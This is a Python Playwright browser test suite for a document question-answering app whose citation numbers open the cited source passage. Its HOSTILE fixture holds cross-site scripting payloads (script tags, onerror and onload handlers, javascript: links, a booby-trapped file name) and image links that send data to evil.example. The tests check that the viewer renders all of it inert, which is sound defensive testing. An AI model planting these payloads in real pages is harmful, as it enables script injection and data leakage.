"""The proof is one click away: a number in an answer opens its source at the spot, whatever the document holds."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.conftest import REPOSITORY, oaken, shot
from tests.browser.test_access import serious
from tests.browser.test_page import answered, ask, newest

pytestmark = [pytest.mark.real, pytest.mark.timeout(300), pytest.mark.slow]

Open = Callable[..., Page]
SAMPLE = REPOSITORY / "data" / "library"
STEPS = "How many steps are there between the tram stop and the porter's lodge?"
NIGHTS = "When are public nights held?"
ARCADE = "¿Cuánto se paga al año por un puesto en los soportales?"
GAUGE = "At what reading of the Long Bridge gauge is rowing forbidden?"
HOSTILE_NAME = "\"><img src=x onerror=document.title='owned'> ![x](https:evil.example) :red[a] **b**.txt"
HOSTILE = {
    "bell.html": (
        "<html><body onload=\"document.title='owned'\"><h1>The harbour bell</h1><script>document.title='owned'</script>"
        "<img src='https://evil.example/pixel.png' onerror=\"document.title='owned'\">"
        "<p>The harbour bell was cast in Olot in 1881 &lt;script&gt;document.title='owned'&lt;/script&gt; "
        "&lt;img src=x onerror=\"document.title='owned'\"&gt; &lt;svg onload=alert(1)&gt; and it is rung at noon.</p>"
        "<p><a href=\"javascript:document.title='owned'\">click here</a> "
        "&lt;/mark&gt;&lt;/p&gt;&lt;iframe src='https://evil.example/'&gt;&lt;/iframe&gt;</p>"
        "<style>@import url('https://evil.example/a.css'); body{background:url(https://evil.example/b)}</style>"
        "</body></html>"
    ),
    "lamp.md": (
        "# The lamp ![x](https://evil.example/heading.png)\n\n"
        "The lamp of the pilot house burns whale oil ![leak](https://evil.example/p.png?secret=42) each night "
        "[click](javascript:document.title='owned') `<script>document.title='owned'</script>`.\n\n"
        "| Name | Oil |\n|---|---|\n| lamp <img src=x onerror=alert(1)> | whale |\n"
    ),
    HOSTILE_NAME: "The anchor of the old brig weighs nine hundred pounds <script>document.title='owned'</script>.\n",
}


@pytest.fixture(scope="module")
def papers(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("source") / "papers"
    folder.mkdir()
    for name in ("observatory/visitor-handbook.pdf", "market/puestos-y-tasas.xlsx", "rowing/club-rules.docx"):
        shutil.copy(SAMPLE / name, folder)
    for name, words in HOSTILE.items():
        (folder / name).write_text(words, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def home(papers: Path) -> Path:
    oaken(papers.parent / "home", "ingest", str(papers))
    return papers.parent / "home"


def number(page: Page, source: str) -> Locator:
    """The number of the first quote from that file, in the newest answer."""
    card = newest(page).locator(".oaken-card", has=page.locator("figcaption", has_text=source))
    return card.first.locator(".oaken-number")


def frame(page: Page) -> Locator:
    return page.locator(".st-key-source .oaken-source")


def until(page: Page, holds: Callable[[], bool]) -> None:
    """Wait until something holds that no expectation of Playwright's can say."""
    for _ in range(600):
        if holds():
            return
        page.wait_for_timeout(100)
    raise AssertionError("it never held")


def box_of(found: Locator) -> tuple[float, float, float, float]:
    """Left, top, right, bottom in the window."""
    expect(found).to_be_visible()
    boxes: list[Any] = []

    def has_box() -> bool:  # a page that is drawn again has none for a moment
        boxes.extend(filter(None, [found.bounding_box()]))
        return bool(boxes)

    until(found.page, has_box)
    box = boxes[0]
    return box["x"], box["y"], box["x"] + box["width"], box["y"] + box["height"]


def seen(page: Page, found: Locator) -> bool:
    """Whether its middle is in the visible part of the document."""
    (left, top, right, bottom), around = box_of(found), box_of(frame(page))
    return around[0] <= (left + right) / 2 <= around[2] and around[1] <= (top + bottom) / 2 <= around[3]


def place_of(words: str, file: Path, page: int) -> tuple[float, float]:
    """Where words stand on a page, as shares of its width and height: asked of the PDF itself."""
    import pypdfium2 as pdfium

    pdf = pdfium.PdfDocument(file)
    try:
        text = pdf[page - 1].get_textpage()
        at, count = text.search(words).get_next()
        left, bottom, right, top = text.get_rect(text.count_rects(at, count) - 1)
        width, height = pdf[page - 1].get_size()
        return (left + right) / 2 / width, 1 - (bottom + top) / 2 / height
    finally:
        pdf.close()


def test_a_number_opens_the_page_with_its_lines_marked(open_page: Open, papers: Path) -> None:
    page = open_page()
    ask(page, STEPS)
    number(page, "visitor-handbook.pdf").click()  # while the answer is being written
    expect(page.get_by_role("dialog")).to_contain_text("visitor-handbook.pdf")
    sheet = page.locator(".oaken-sheet img")
    expect(sheet).to_be_visible()
    until(page, lambda: sheet.evaluate("each => each.complete && each.naturalWidth") > 1_000)
    expect(page.locator(".oaken-box").first).to_be_visible()
    left, top, right, bottom = box_of(sheet)
    across, down = place_of("312 steps", papers / "visitor-handbook.pdf", 2)
    x, y = left + across * (right - left), top + down * (bottom - top)
    marks = [box_of(each) for each in page.locator(".oaken-box").all()]
    assert any(mark[0] < x < mark[2] and mark[1] < y < mark[3] for mark in marks), (x, y, marks)
    assert sum((m[2] - m[0]) * (m[3] - m[1]) for m in marks) < 0.25 * (right - left) * (bottom - top)
    assert seen(page, page.locator(".oaken-box").first)
    expect(page.get_by_text("How this was answered").first).to_be_attached(timeout=180_000)
    expect(page.get_by_role("dialog")).to_contain_text("visitor-handbook.pdf")  # an answer that ends closes nothing
    shot(page, "source-pdf")
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    answered(page)
    expect(page.locator(".oaken-question")).to_have_count(1)
    expect(page.locator('[data-oaken^="cite:"]:focus')).to_have_count(1)  # the first of that citation's numbers
    ask(page, "When is flour sold?")  # a run of the script opens nothing
    expect(page.locator(".oaken-question")).to_have_count(2)
    expect(page.get_by_role("dialog")).to_have_count(0)


def test_pages_are_leafed_through_and_shown_as_text(open_page: Open) -> None:
    page = open_page()
    ask(page, STEPS)
    number(page, "visitor-handbook.pdf").click()
    expect(page.get_by_text("page 2 of 16", exact=True)).to_be_visible()
    page.get_by_role("button", name="Next page").click()
    expect(page.get_by_text("page 3 of 16", exact=True)).to_be_visible()
    expect(page.locator(".oaken-box")).to_have_count(0)
    expect(page.get_by_role("button", name="Next page")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_text("page 4 of 16", exact=True)).to_be_visible()
    page.get_by_role("button", name="Show as text").click()
    mark = frame(page).locator("mark").filter(has_text="312 steps")
    expect(mark).to_be_visible()
    expect(frame(page).locator("h3, h4").filter(has_text="By tram and on foot")).to_be_attached()
    expect(frame(page)).to_have_attribute("data-seen", "yes")
    assert seen(page, mark)
    page.get_by_role("button", name="Show the page").click()
    expect(page.get_by_text("page 2 of 16", exact=True)).to_be_visible()
    expect(page.locator(".oaken-box").first).to_be_visible()
    answered_by = page.get_by_text("How this was answered").first
    expect(answered_by).to_be_attached(timeout=180_000)


def test_the_citations_are_gone_through(open_page: Open) -> None:
    page = open_page()
    ask(page, NIGHTS)
    answered(page)
    assert page.locator(".oaken-card button").count() > 1
    first = page.locator(".oaken-card").first
    first.locator("blockquote").click(position={"x": 4, "y": 8})  # the card itself
    dialog = page.get_by_role("dialog")
    back, on = page.get_by_role("button", name="Previous citation"), page.get_by_role("button", name="Next citation")
    expect(back).to_be_disabled()
    expect(dialog.locator("h3.oaken-file")).to_have_text(first.locator("strong").inner_text())
    marks = page.locator(".oaken-box")
    expect(marks.first).to_be_visible()
    where = marks.first.get_attribute("style")
    on.click()
    expect(page.locator(".oaken-leaf-through").first).to_contain_text("2 of")
    expect(marks.first).not_to_have_attribute("style", where or "")  # other words are marked
    at = 2
    while not on.is_disabled():  # the prose may cite more than the quotes
        at += 1
        on.click()
        expect(page.locator(".oaken-leaf-through").first).to_contain_text(f"{at} of")
    expect(back).to_be_focused()  # its fellow went out
    page.keyboard.press("Enter")
    expect(page.locator(".oaken-leaf-through").first).to_contain_text(f"{at - 1} of")
    page.get_by_role("button", name="Close").click()
    expect(dialog).to_have_count(0)
    number(page, "visitor-handbook.pdf").click()  # it opens again, where it began
    expect(page.locator(".oaken-leaf-through").first).to_contain_text("1 of")


def test_a_row_of_a_table_under_the_names_of_its_columns(open_page: Open) -> None:
    page = open_page()
    ask(page, ARCADE)
    number(page, "puestos-y-tasas.xlsx").click()
    row = frame(page).locator("tr.oaken-cited")
    expect(row).to_have_count(1)
    expect(row.locator("td").first).to_have_text("Soportales")
    expect(row.locator("td").last).to_have_text("220")
    names = frame(page).locator("table", has=page.locator("tr.oaken-cited")).locator("th")
    expect(names.last).to_have_text("Coronas por año")
    expect(frame(page).locator(".oaken-leaf").first).to_have_text("sheet 1")
    assert seen(page, row)
    shot(page, "source-table")


def test_the_sentence_of_the_answer_leads_to_its_source_by_mouse_and_by_keyboard(open_page: Open) -> None:
    page = open_page()
    ask(page, STEPS)
    answered(page)
    page.get_by_text("Sources and passages").click()
    mark = page.locator("button.oaken-mark").first
    expect(mark).to_be_visible()
    said = mark.get_attribute("data-tip") or ""
    assert len(said) > 20
    assert "Source" in (mark.get_attribute("aria-label") or "")
    tip = "each => getComputedStyle(each, '::after').content"
    assert said not in mark.evaluate(tip)

    def told() -> bool:
        mark.hover()
        return said in str(mark.evaluate(tip)).replace("\\", "")

    until(page, told)
    page.mouse.move(0, 0)
    mark.evaluate("each => each.previousElementSibling")
    mark.focus()
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Tab")
    expect(mark).to_be_focused()
    assert said in mark.evaluate(tip).replace("\\", "")
    page.keyboard.press("Enter")
    expect(page.get_by_role("dialog")).to_contain_text("visitor-handbook.pdf")
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(mark).to_be_focused()


def test_the_passages_that_come_nearest_open_where_nothing_answers(open_page: Open) -> None:
    page = open_page()
    ask(page, "What is the postal address of the zoo?")
    near = page.locator(".oaken-near .oaken-open").first
    expect(near).to_be_hidden()
    page.get_by_text("Nearest passages (3)").click()
    expect(near).to_be_visible()
    name = near.locator("strong").inner_text()
    near.click()
    expect(page.get_by_role("dialog").locator("h3.oaken-file")).to_have_text(name)
    expect(page.locator(".st-key-source").locator(".oaken-box, mark").first).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(near).to_be_focused()


@pytest.mark.parametrize(
    ("question", "source", "quote"),
    [
        ("When was the harbour bell cast in Olot?", "bell.html", "<script>document.title='owned'</script>"),
        ("What does the lamp of the pilot house burn?", "lamp.md", "whale oil"),
        ("What is the weight of the anchor?", "owned", "<script>document.title='owned'</script>"),
    ],
)
def test_a_hostile_document_does_nothing_and_loads_nothing(
    open_page: Open, question: str, source: str, quote: str
) -> None:
    """That nothing left this machine is seen by the witness of ``open_page``: it has every request of the page."""
    page = open_page()
    ask(page, question)
    number(page, source).click()
    expect(frame(page).locator("mark").first).to_be_visible()
    expect(frame(page)).to_contain_text(quote)
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text(source)
    assert dialog.locator("img, script, iframe, svg[onload], style, link, a[href]").count() == 0
    assert page.locator("img[src='x'], [onerror], [onload], iframe, a[href^='javascript']").count() == 0
    answered(page)
    assert page.title() == "Oaken"
    shot(page, f"source-hostile-{source.split('.')[-1]}")


def test_the_original_is_downloaded_and_never_shown(open_page: Open, papers: Path) -> None:
    page = open_page()
    told: dict[str, Any] = {}
    page.on(
        "response", lambda response: urlsplit(response.url).path.startswith("/media/") and told.update(response.headers)
    )
    ask(page, "When was the harbour bell cast in Olot?")
    number(page, "bell.html").click()
    with page.expect_download() as begun:
        page.get_by_role("button", name="Download the original").click()
    assert begun.value.suggested_filename == "bell.html"
    assert Path(begun.value.path()).read_text(encoding="utf-8") == HOSTILE["bell.html"]
    if told:  # Chromium does not always tell of a response that becomes a download
        assert told["content-disposition"].startswith("attachment")
        assert told["content-type"].startswith("application/octet-stream")
    answered(page)


def test_a_changed_or_missing_file_is_reported(open_page: Open, papers: Path) -> None:
    file = papers / "club-rules.docx"
    kept = file.read_bytes()
    page = open_page()
    ask(page, GAUGE)
    answered(page)
    try:
        file.write_bytes(kept + b"another end")
        number(page, "club-rules.docx").click()
        expect(page.get_by_text("The file has changed since it was read.")).to_be_visible()
        expect(frame(page).locator("mark").first).to_contain_text("2.60 metres")
        expect(page.get_by_role("button", name="Download the original")).to_have_count(0)
        page.keyboard.press("Escape")
        expect(page.get_by_role("dialog")).to_have_count(0)
        file.unlink()
        number(page, "club-rules.docx").click()
        expect(page.get_by_text("The file is no longer where it was.")).to_be_visible()
    finally:
        file.write_bytes(kept)


@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 1280), ("light", 390), ("dark", 390)])
def test_it_is_read_by_everybody_and_fits(open_page: Open, scheme: str, width: int) -> None:
    page = open_page(scheme=scheme, width=width, height=844 if width < 500 else 900)
    ask(page, STEPS)
    answered(page)
    number(page, "visitor-handbook.pdf").click()
    expect(page.locator(".oaken-box").first).to_be_visible()
    assert serious(page) == []
    left, _, right, _ = box_of(page.get_by_role("dialog"))
    assert left >= 0 and right <= width
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    shot(page, f"source-{scheme}-{width}")
    page.get_by_role("button", name="Show as text").click()
    expect(frame(page).locator("mark").first).to_be_visible()
    assert serious(page) == []
    shot(page, f"source-text-{scheme}-{width}")
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    ask(page, ARCADE)
    answered(page)
    number(page, "puestos-y-tasas.xlsx").click()
    expect(frame(page).locator("tr.oaken-cited")).to_be_visible()
    assert serious(page) == []
    shot(page, f"source-table-{scheme}-{width}")
